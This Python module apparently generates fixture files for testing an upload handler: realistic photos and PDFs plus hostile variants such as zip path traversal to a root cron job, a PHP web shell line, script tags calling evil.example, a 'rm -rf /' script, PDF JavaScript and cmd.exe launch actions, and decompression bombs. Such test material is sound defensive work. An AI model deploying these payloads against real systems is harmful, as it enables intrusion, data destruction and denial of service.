"""Files that the suites upload: photographs as telephones make them, PDFs, and the hostile ones of each sort."""

import base64
import io
import random
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image, PngImagePlugin

HEIC = base64.b64decode(
    "AAAAHGZ0eXBoZWljAAAAAG1pZjFoZWljbWlhZgAAAchtZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAAAAAAAAAA"
    "ADRpbG9jAAAAAERAAAIAAQAAAAAB7AABAAAAAAAAAC4AAgAAAAACGgABAAAAAAAAADYAAAA4aWluZgAAAAAAAgAAABVpbmZlAgAA"
    "AAABAABodmMxAAAAABVpbmZlAgAAAQACAABFeGlmAAAAAA5waXRtAAAAAAABAAABB2lwcnAAAADmaXBjbwAAAHZodmNDAQNwAAAA"
    "kAAAAAAAHvAA/P34+AAADwNgAAEAGEABDAH//wNwAAADAJAAAAMAAAMAHroCQGEAAQAqQgEBA3AAAAMAkAAAAwAAAwAeoCCBBZbq"
    "5Ka5uAhoMCAAAAMDIAAAAwAhYgABAAZEAcFzwIkAAAATY29scm5jbHgAAQANAAaAAAAAFGlzcGUAAAAAAAAAQAAAAEAAAAAoY2xh"
    "cAAAAEAAAAABAAAAMAAAAAEAAAAAAAAAAv////AAAAACAAAAEHBpeGkAAAAAAwgICAAAAAlpcm90AwAAABlpcG1hAAAAAAAAAAEA"
    "AQaBAgMFhIYAAAAaaXJlZgAAAAAAAAAOY2RzYwACAAEAAQAAAGxtZGF0AAAAKigBrwngIzUt//cm/vfoXP/40BHTu79ShW2Jkv+A"
    "22/qvbX36SdVVB5wIAAAAAZFeGlmAABNTQAqAAAACAACAQ8AAgAAAAYAAAAmARIAAwAAAAEABgAAAAAAAEFwcGxlAA=="
)
"""A picture of 64 × 48 as an iPhone stores it, upper half blue, lower half red, to be turned clockwise. Made here."""

Hostile = tuple[str, str, bytes]
"""The sort, the name it comes with, its bytes."""


def photo(width: int = 640, height: int = 480, form: str = "JPEG", seed: int = 1) -> bytes:
    """A photograph: upper half blue, to be turned by 90 degrees, with the place where it was taken."""
    picture = Image.frombytes("RGB", (64, 48), random.Random(seed).randbytes(64 * 48 * 3)).resize((width, height))
    picture.paste((0, 0, 255), (0, 0, width, height // 2))
    exif = picture.getexif()
    exif[0x0112] = 6  # orientation: turn clockwise
    exif[0x010F] = "SecretCamera"
    exif.get_ifd(0x8825)[2] = (34.0, 15.0, 30.0)
    out = io.BytesIO()
    picture.save(out, form, exif=exif)
    return out.getvalue()


def pdf(objects: list[bytes] | None = None, pages: int = 1, payload: bytes = b"", catalogue: bytes = b"") -> bytes:
    """A PDF by hand: `pages` empty pages, a stream with `payload`, and further objects from number 4 + pages on."""
    kids = b" ".join(b"%d 0 R" % (4 + n) for n in range(pages))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    body = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalogue + b">>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        b"<< /Length %d >>\nstream\n" % len(payload) + payload + b"\nendstream",
        *[page] * pages,
        *(objects or []),
    ]
    out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, each in enumerate(body, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + each + b"\nendobj\n"
    at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(body) + 1, at))


def locked_pdf(password: str, algorithm: str = "RC4-128") -> bytes:
    """An encrypted PDF."""
    import pypdf

    writer = pypdf.PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(password, "owner", algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def packed_pdf(inner: bytes) -> bytes:
    """A PDF whose catalogue and one object more lie in a compressed object stream (ISO 32000-1, 7.5.7)."""
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R /Extra 4 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"}
    objects |= {3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>", 4: inner}
    heads, bodies = "", b""
    for number, body in objects.items():
        heads += f"{number} {len(bodies)} "
        bodies += body + b" "
    stream = zlib.compress(heads.encode() + bodies)
    first = b"%%PDF-1.7\n5 0 obj\n<< /Type /ObjStm /N 4 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
    out = first % (len(heads), len(stream)) + stream + b"\nendstream\nendobj\n"
    rows = [(0, 0, 255), *((2, 5, n) for n in range(4)), (1, len(b"%PDF-1.7\n"), 0), (1, len(out), 0)]
    table = zlib.compress(b"".join(bytes((kind,)) + at.to_bytes(4, "big") + bytes((n,)) for kind, at, n in rows))
    xref = b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
    return out + xref % len(table) + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(out)


def archive(name: str = "../../etc/cron.d/evil", content: bytes = b"* * * * * root id") -> bytes:
    """A zip whose entry climbs out of its folder."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr(name, content)
    return out.getvalue()


def bare_png(width: int, height: int, rows: bytes) -> bytes:
    """A PNG that says it has these dimensions, and holds `rows` deflated."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")

    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes((8, 2, 0, 0, 0))
    data = zlib.compress(rows, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def png(rng: random.Random) -> bytes:
    """A sound PNG of noise."""
    out = io.BytesIO()
    size = rng.randint(8, 64), rng.randint(8, 64)
    Image.frombytes("RGB", size, rng.randbytes(size[0] * size[1] * 3)).save(out, "PNG")
    return out.getvalue()


def hostile(seed: int, count: int) -> list[Hostile]:
    """So many hostile files, each sort in its turn, drawn from the seed."""
    rng = random.Random(seed)
    sorts = list(SORTS.items())
    made = []
    for turn in range(count):
        sort, make = sorts[turn % len(sorts)]
        name, data = make(rng)
        made.append((sort, name, data))
    return made


def _script(rng: random.Random) -> bytes:
    return b"<script>fetch('//evil.example/%d')</script>" % rng.randrange(10**9)


def _polyglot_image(rng: random.Random) -> tuple[str, bytes]:
    picture = rng.choice([photo(seed=rng.randrange(10**6)), png(rng)])
    return "照片.jpg", picture + rng.choice(
        [archive(), _script(rng), b"<?php system($_GET['c']); ?>", b"Rar!\x1a\x07\0"]
    )


def _script_in_text(rng: random.Random) -> tuple[str, bytes]:
    told = PngImagePlugin.PngInfo()
    told.add_text("Comment", _script(rng).decode())
    out = io.BytesIO()
    Image.new("RGB", (9, 9)).save(out, "PNG", pnginfo=told)
    return "扫描件.png", out.getvalue()


def _polyglot_pdf(rng: random.Random) -> tuple[str, bytes]:
    return "证明.pdf", rng.choice([pdf() + archive(), pdf(payload=archive()), pdf(payload=_script(rng))])


def _pdf_in_image(rng: random.Random) -> tuple[str, bytes]:
    return "a.png", b"\x89PNG\r\n\x1a\n" + pdf() if rng.random() < 0.5 else b"\xff\xd8\xff\xfe\x10\x00" + pdf()


def _png_bomb(rng: random.Random) -> tuple[str, bytes]:
    side = rng.choice([20_000, 30_000, 65_500])
    return "图.png", bare_png(side, side, bytes(1000 * rng.randint(1, 2000)))


def _huge_dimensions(rng: random.Random) -> tuple[str, bytes]:
    if rng.random() < 0.5:
        return "宽.png", bare_png(rng.randint(10**6, 2**31 - 1), rng.randint(1_000, 2**31 - 1), b"\0")
    data = bytearray(photo(seed=rng.randrange(10**6)))
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = rng.randint(60_000, 65_535).to_bytes(2, "big") * 2
    return "宽.jpg", bytes(data)


def _heic_dimensions(rng: random.Random) -> tuple[str, bytes]:
    data = bytearray(HEIC)
    at = data.index(b"ispe") + 8
    data[at : at + 8] = rng.randint(30_000, 2**31 - 1).to_bytes(4, "big") * 2
    return "IMG_0001.HEIC", bytes(data)


def _text_bomb(rng: random.Random) -> tuple[str, bytes]:
    body = b"Comment\0\0" + zlib.compress(bytes(rng.randint(60, 90) * 10**6), 9)
    chunk = len(body).to_bytes(4, "big") + b"zTXt" + body + zlib.crc32(b"zTXt" + body).to_bytes(4, "big")
    sound = png(rng)
    return "说明.png", sound[:33] + chunk + sound[33:]


def _pdf_bomb(rng: random.Random) -> tuple[str, bytes]:
    packer = zlib.compressobj(9)
    block = bytes(1024 * 1024)
    packed = b"".join(packer.compress(block) for _ in range(rng.randint(420, 500))) + packer.flush()
    stream = b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed) + packed + b"\nendstream"
    return "大.pdf", pdf([stream])


def _wrong_type(rng: random.Random) -> tuple[str, bytes]:
    kinds = [
        b"MZ" + rng.randbytes(4000),
        b"\x7fELF\x02\x01\x01" + rng.randbytes(4000),
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"<!doctype html><body onload=alert(1)>",
        b"GIF89a" + rng.randbytes(300),
        b"RIFF\x00\x10\x00\x00WEBPVP8 " + rng.randbytes(300),
        b"BM" + rng.randbytes(300),
        b"\0\0\0\x20ftypisom" + rng.randbytes(300),
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rng.randbytes(300),
        b"#!/bin/sh\nrm -rf /\n",
        rng.randbytes(rng.randint(1, 5000)),
        b"\0" * rng.randint(1, 5000),
    ]
    return rng.choice(["身份证.jpg", "a.png", "b.pdf", "c.heic"]), rng.choice(kinds)


def _traversal(rng: random.Random) -> tuple[str, bytes]:
    names = [
        "../../etc/passwd",
        "..\\..\\boot.ini",
        "/etc/cron.d/upload",
        "a\0.png",
        "x\u202egnp.exe",
        "....//..//x",
    ]
    return rng.choice(names), b"ssh-rsa " + rng.randbytes(200)


def _truncated(rng: random.Random) -> tuple[str, bytes]:
    sound = rng.choice([photo(seed=rng.randrange(10**6)), png(rng), HEIC, pdf(payload=rng.randbytes(3000))])
    return "断.jpg", sound[: rng.randint(12, int(len(sound) * 0.9))]


def _scrambled(rng: random.Random) -> tuple[str, bytes]:
    """The right first bytes, and noise after them."""
    head = rng.choice([b"\xff\xd8\xff\xe0", b"\x89PNG\r\n\x1a\n", b"%PDF-1.7\n", HEIC[:32]])
    return "坏.png", head + rng.randbytes(rng.randint(100, 20_000))


def _locked(rng: random.Random) -> tuple[str, bytes]:
    return "锁.pdf", locked_pdf(rng.choice(["", f"{rng.randrange(10**6):06}"]), rng.choice(["RC4-40", "RC4-128"]))


def _active(rng: random.Random) -> tuple[str, bytes]:
    script = rng.choice([b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>", b"<< /S /J#61vaScript /J#53 (x) >>"])
    program = b"<< /S /Launch /F (cmd.exe) >>"
    attached = b"<< /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >>"
    action = rng.choice([script, program, attached, b"<< /XFA 3 0 R >>", b"<< /S 6 0 R >>"])
    if rng.random() < 0.5:
        return "表.pdf", packed_pdf(action if b"6 0 R" not in action else script)
    return "表.pdf", pdf([action, b"/ImportData"], catalogue=b"/OpenAction 5 0 R ")


def _endless(rng: random.Random) -> tuple[str, bytes]:
    """Pages that are their own parents, deep nests, more pages than anybody reads."""
    loop = pdf().replace(b"/Kids [4 0 R]", b"/Kids [2 0 R]")
    deep = pdf([b"[" * 50_000 + b"]" * 50_000])
    return "无尽.pdf", rng.choice([loop, deep, pdf(pages=rng.randint(501, 900))])


def _zip_as_picture(rng: random.Random) -> tuple[str, bytes]:
    return "照片.png", archive(content=rng.randbytes(500))


SORTS: dict[str, Callable[[random.Random], tuple[str, bytes]]] = {
    "polyglot picture": _polyglot_image,
    "script in a picture's text": _script_in_text,
    "polyglot PDF": _polyglot_pdf,
    "PDF in a picture": _pdf_in_image,
    "PNG bomb": _png_bomb,
    "huge dimensions": _huge_dimensions,
    "huge dimensions in HEIC": _heic_dimensions,
    "text bomb": _text_bomb,
    "PDF bomb": _pdf_bomb,
    "wrong type": _wrong_type,
    "traversal name": _traversal,
    "truncated": _truncated,
    "scrambled": _scrambled,
    "encrypted PDF": _locked,
    "active PDF": _active,
    "endless PDF": _endless,
    "zip as picture": _zip_as_picture,
}
